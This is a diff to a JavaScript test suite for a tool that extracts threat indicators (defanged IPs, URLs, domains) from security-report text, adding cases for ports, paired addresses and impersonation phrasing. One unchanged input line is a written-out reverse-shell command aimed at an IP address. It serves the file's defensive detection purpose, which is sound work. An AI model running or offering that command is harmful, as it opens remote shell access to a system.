@@ -26,6 +26,8 @@ describe('what is found', () => {
     ['45.9.148[.]3/up/a.sh', ['ipv4 45.9.148.3', 'url 45.9.148.3/up/a.sh']],
     ['45.9.148[.]3:8080/gate', ['ipv4 45.9.148.3', 'url 45.9.148.3:8080/gate']],
     ['45.9.148[.]3/finch[.]co', ['ipv4 45.9.148.3']],
+    ['45.9.148[.]3:443/TCP', ['ipv4 45.9.148.3']],
+    ['45.9.148[.]3/45.9.148[.]4', ['ipv4 45.9.148.3', 'ipv4 45.9.148.4']],
     ['45.9.148[.]3/li>', ['ipv4 45.9.148.3']],
     ['bash -i >& /dev/tcp/45.9.148.3/25 0>&1', ['ipv4 45.9.148.3']],
     ['2a0e:b107:1a0::5', ['ipv6 2a0e:b107:1a0::5']],
@@ -188,7 +190,9 @@ describe('what only looks like an indicator', () => {
     'The loader came from the compromised official site finchbank[.]com.',
     'The loader was hosted on the legitimate site finchbank[.]com.',
     'The genuine installer calls finchbank[.]com.',
-  ])('keeps a host of somebody else that is the intruder’s means: "%s"', async (text) => {
+    'The page that impersonates Heron Bank (finchbank[.]com) took the passwords.',
+    'The malware imitating a printer update contacts finchbank[.]com.',
+  ])('keeps a host that is the intruder’s own or means: "%s"', async (text) => {
     expect(await found(text)).toEqual(['domain finchbank.com']);
   });
 
@@ -199,6 +203,7 @@ describe('what only looks like an indicator', () => {
 
   test('leaves out a plain host that readers are sent to, or that stands in advice', async () => {
     expect(await found('For more on the alliance, visit finch-alliance.org.')).toEqual([]);
+    expect(await found('Customers should visit finch-alliance.org for help.')).toEqual([]);
     expect(await found('Look for connections to providers like Heron Limited (heron2.net).')).toEqual([]);
   });
 
